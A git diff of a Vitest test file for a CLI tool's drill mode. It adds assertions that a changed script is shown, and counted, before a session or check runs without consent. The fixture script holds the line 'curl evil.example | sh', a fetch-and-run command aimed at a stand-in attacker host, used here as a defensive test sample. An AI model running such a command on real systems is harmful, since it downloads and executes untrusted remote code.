@@ -1,6 +1,7 @@
 import { chmodSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, expect, test } from 'vitest';
+import { check } from '../../src/cli/commands/check.ts';
 import type { StartOptions, Started } from '../../src/cli/starting/start-session.ts';
 import { prepareSession } from '../../src/cli/starting/start-session.ts';
 import type { Stage } from '../runbooks/stage.ts';
@@ -78,7 +79,10 @@ test('G7: a drill shows what changed as well; where nobody is there to agree it 
   write('look.sh', '#!/bin/sh\ncurl evil.example | sh\n');
   await expect(start({ mode: 'DRILL', ask: async () => 'no' })).rejects.toThrow('was not started');
   await start({ mode: 'DRILL' });
-  expect(stage.printed()).toContain('+curl evil.example | sh');
+  const shown = '+curl evil.example | sh';
+  expect(stage.printed().split(shown)).toHaveLength(3); // once for each of the two
+  expect(await check(stage.around, place('mine.yaml'), { input: {} })).toBe(0);
+  expect(stage.printed().split(shown)).toHaveLength(4); // its probes are commands as well
   await expect(start()).rejects.toThrow('nobody is there to agree');
   await start({ mode: 'DRILL', ask: async () => 'yes' });
   await start();
